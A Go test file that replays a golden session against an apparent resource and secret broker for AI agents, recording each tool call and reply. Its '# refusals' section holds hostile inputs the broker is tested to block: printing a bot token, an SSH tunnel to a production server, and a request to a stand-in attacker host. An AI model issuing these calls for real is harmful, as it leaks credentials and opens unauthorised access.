//go:build unix

package tools_test

import (
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"syscall"
	"testing"

	"github.com/zavhoz/zavhoz/vault"
	"github.com/zavhoz/zavhoz/web/api"
)

// transcript writes down a session as a person would read it, with ids numbered by their first appearance.
type transcript struct {
	*client
	out  strings.Builder
	hide map[string]string // what differs from run to run → its name
	seen map[string]string
}

var anyID = regexp.MustCompile(`\b(lse|run|res|srv|agt|itk|apr)_[a-z2-7]{26}\b`)

func (s *transcript) plain(text string) string {
	for what, name := range s.hide {
		text = strings.ReplaceAll(text, what, name)
	}
	return anyID.ReplaceAllStringFunc(text, func(id string) string {
		if s.seen[id] == "" {
			s.seen[id] = fmt.Sprintf("%s_%d", id[:3], len(s.seen)+1)
		}
		return s.seen[id]
	})
}

// act calls and writes down the call and the whole answer.
func (s *transcript) act(tool, args string) reply {
	r := s.call(tool, args)
	s.write(tool, args, r)
	return r
}

func (s *transcript) write(tool, args string, r reply) {
	fmt.Fprintf(&s.out, "> %s %s\n< %s\n", tool, s.plain(args), s.plain(r.Text))
	if r.Code == "" {
		fmt.Fprintf(&s.out, "  %s\n", s.plain(string(r.Data)))
	}
	s.out.WriteString("\n")
}

// until calls until the reply holds the words, and writes the last one down.
func (s *transcript) until(words, tool, args string) {
	for {
		r := s.call(tool, args)
		if strings.Contains(string(r.Data), words) {
			s.write(tool, args, r)
			return
		}
		if r.str("state") != "running" {
			s.h.t.Fatalf("ended without %q: %s", words, r.Data)
		}
	}
}

// TestGoldenSession plays a whole session: what a client of either era sees is the same, to the letter.
func TestGoldenSession(t *testing.T) {
	for _, modern := range []bool{false, true} {
		t.Run(fmt.Sprintf("modern=%t", modern), func(t *testing.T) {
			golden(t, "testdata/session.golden", play(t, modern))
		})
	}
}

func play(t *testing.T, modern bool) string {
	h := newHouse(t)
	once := script(t, `echo "forecast for $1 h, token $TELEGRAM_BOT_TOKEN"; echo done >&2; exit 3`)
	gate := filepath.Join(t.TempDir(), "gate")
	must(t, syscall.Mkfifo(gate, 0o600))
	serve := script(t, `echo "polling as $TELEGRAM_BOT_USERNAME with $TELEGRAM_BOT_TOKEN"; read line < `+gate)
	p := pinned(once, "{hours:int}")
	p.Pins = append(p.Pins, pinned(serve).Pins...)
	p.Pins[0].Name, p.Pins[1].Name = "forecast", "serve"
	h.addBot("weather_bot", p)
	h.addServer("prod_vps_1")
	h.adopt(h.sees(machine{ram: 4096, disk: 40960, cpu: 2, usedRAM: 512})[0], "prod_vps_2")
	port := h.api("router", "openrouter", " +keys", keyMaker)
	token := h.agent(vault.NewAgent{Name: "ci"})
	other := h.connect(h.agent(vault.NewAgent{Name: "other"}), modern)

	s := &transcript{client: h.connect(token, modern), hide: map[string]string{once: "/opt/forecast", serve: "/opt/serve", fmt.Sprintf("%s:%d", apiHost, port): apiHost + ":8443"}, seen: map[string]string{}}
	s.act("list_resources", `{}`)
	s.act("list_managed_servers", `{"min_free_ram_mb":1024}`)
	lease := s.act("allocate_resource", `{"handle":"weather_bot","purpose":"answer people","context":"thread 7","idempotency_key":"k1"}`).str("lease_id")
	s.act("allocate_resource", `{"handle":"weather_bot","purpose":"answer people","context":"thread 7","idempotency_key":"k1"}`)
	s.act("allocate_resource", `{"kind":"server","purpose":"host the bot","requirements":{"ram_mb":512,"disk_mb":1024,"cpu":1,"ports":[0,0,9000]},"ttl_s":600}`)
	s.act("run_with_resource", `{"resources":["`+lease+`"],"command":["`+once+`","24"]}`)
	s.act("run_with_resource", `{"resources":["weather_bot"],"command":["pin:forecast","48"]}`)
	run := s.act("run_with_resource", `{"resources":["weather_bot"],"command":["pin:serve"],"background":true}`).str("run_id")
	s.until(`"redactions":1`, "get_run", `{"run_id":"`+run+`","offset":0}`)
	s.act("get_status", `{}`)
	h.isolation = api.Isolation{Level: "basic", Features: []api.Feature{
		{Name: "system call filter", OK: true}, {Name: "namespaces", Lost: "a run shares the network and the processes of its user", Fix: "sysctl -w user.max_user_namespaces=10000"},
	}}
	s.act("get_status", `{}`)
	s.act("stop_run", `{"run_id":"`+run+`"}`)
	s.act("stop_run", `{"run_id":"`+run+`"}`)
	s.act("get_run", `{"run_id":"`+run+`","offset":20}`)
	s.act("http_request_with_resource", `{"handle":"router","method":"GET","url":"/api/v1/echo"}`)
	s.act("http_request_with_resource", mintCall)
	s.act("http_request_with_resource", `{"handle":"bot_key","method":"GET","url":"/api/v1/models"}`)

	s.act("resolve_environment", `{"project":"default","names":["APP_NAME","DATABASE_URL","STRIPE_SECRET"],"dry_run":true}`)
	s.act("list_project_secrets", `{"project":"default"}`)
	s.act("request_secret", `{"project":"default","key":"STRIPE_SECRET","reason":"to charge cards"}`)
	s.act("request_secret", `{"kind":"api_key","handle":"openai_main","reason":"to ask the model"}`)
	s.act("request_secret", `{"project":"default","key":"STRIPE_SECRET","kind":"api_key","reason":"both"}`)

	s.out.WriteString("# refusals\n\n")
	s.act("run_with_resource", `{"resources":["weather_bot"],"command":["printenv","TELEGRAM_BOT_TOKEN"]}`)
	s.act("run_with_resource", `{"resources":["weather_bot"],"command":["pin:forecast","soon"]}`)
	s.act("run_with_resource", `{"resources":["prod_vps_1"],"command":["ssh","-L","1:localhost:1","prod_vps_1"]}`)
	s.act("run_with_resource", `{"resources":["prod_vps_1"],"command":["ssh","prod_vps_1","uptime"]}`)
	s.act("http_request_with_resource", `{"handle":"router","method":"POST","url":"/api/v1/keys"}`)
	s.act("http_request_with_resource", `{"handle":"router","method":"GET","url":"https://attacker.example/"}`)
	s.act("allocate_resource", `{"kind":"server","purpose":"host a model","requirements":{"ram_mb":65536}}`)
	s.act("allocate_resource", `{"handle":"nothing","purpose":"x"}`)
	s.act("allocate_resource", `{"handle":"weather_bot","purpose":"another","context":"thread 7","idempotency_key":"k1"}`)
	s.client = other
	s.act("release_resource", `{"lease_id":"`+lease+`"}`)
	s.act("run_with_resource", `{"resources":["`+lease+`"],"command":["pin:serve"]}`)
	s.act("get_run", `{"run_id":"`+run+`"}`)
	s.client = h.connect("", modern)
	s.act("run_with_resource", `{"resources":["weather_bot"],"command":["pin:forecast","24"]}`)
	s.client = h.connect(token, modern)
	s.act("release_resource", `{"lease_id":"`+lease+`"}`)
	s.act("release_resource", `{"lease_id":"`+lease+`"}`)
	s.act("run_with_resource", `{"resources":["`+lease+`"],"command":["pin:forecast","24"]}`)
	if f, err := os.OpenFile(gate, os.O_WRONLY|syscall.O_NONBLOCK, 0); err == nil {
		f.Close()
		t.Error("the stopped run still waits at its gate")
	}
	return s.out.String()
}
